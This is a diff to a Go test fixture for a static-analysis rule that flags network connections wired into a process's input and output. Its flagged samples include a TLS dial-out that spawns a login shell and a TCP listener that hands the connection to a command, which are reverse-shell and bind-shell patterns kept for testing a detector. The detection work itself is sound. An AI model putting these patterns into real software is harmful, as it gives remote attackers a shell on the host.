@@ -1,6 +1,8 @@
 package agent
 
 import (
+	"context"
+	"crypto/tls"
 	"io"
 	"net"
 	"os"
@@ -55,4 +57,66 @@ func sorted(conn net.Conn) {
 func echo(conn net.Conn) {
 	// ok: go-connection-becomes-shell-stream
 	io.Copy(conn, conn)
+}
+
+type station struct {
+	link net.Conn
+	unit string
+}
+
+func (s *station) program(path string, args ...string) *exec.Cmd {
+	c := exec.Command(path, args...)
+	c.Env = []string{"PATH=/bin"}
+	return c
+}
+
+func (s *station) attend(path string) error {
+	c := s.program(path, "-l")
+	// ruleid: go-connection-becomes-shell-stream
+	c.Stdin = s.link
+	c.Stdout = s.link
+	return c.Run()
+}
+
+func (s *station) work(server string) error {
+	d := &net.Dialer{}
+	conn, err := tls.DialWithDialer(d, "tcp", server, nil)
+	if err != nil {
+		return err
+	}
+	s.link = conn
+	return s.attend("/usr/libexec/" + s.unit)
+}
+
+func literal(path string, l *net.TCPListener) {
+	peer, _ := l.AcceptTCP()
+	// ruleid: go-connection-becomes-shell-stream
+	c := exec.Cmd{Path: path, Stdin: peer, Stdout: peer}
+	c.Run()
+}
+
+func files(d net.Dialer, path, where string) {
+	c, _ := d.DialContext(context.Background(), "tcp", where)
+	f, _ := c.(*net.TCPConn).File()
+	// ruleid: go-connection-becomes-shell-stream
+	at := &os.ProcAttr{Files: []*os.File{f, f, f}}
+	os.StartProcess(path, []string{path}, at)
+}
+
+func (s *station) state(name string) error {
+	c := s.program("/usr/bin/journalctl", "-u", name)
+	// ok: go-connection-becomes-shell-stream
+	c.Stdout = s.link
+	return c.Run()
+}
+
+func fromFile(path string) error {
+	f, err := os.Open(path)
+	if err != nil {
+		return err
+	}
+	c := exec.Command("/bin/sh")
+	// ok: go-connection-becomes-shell-stream
+	c.Stdin = f
+	return c.Run()
 }
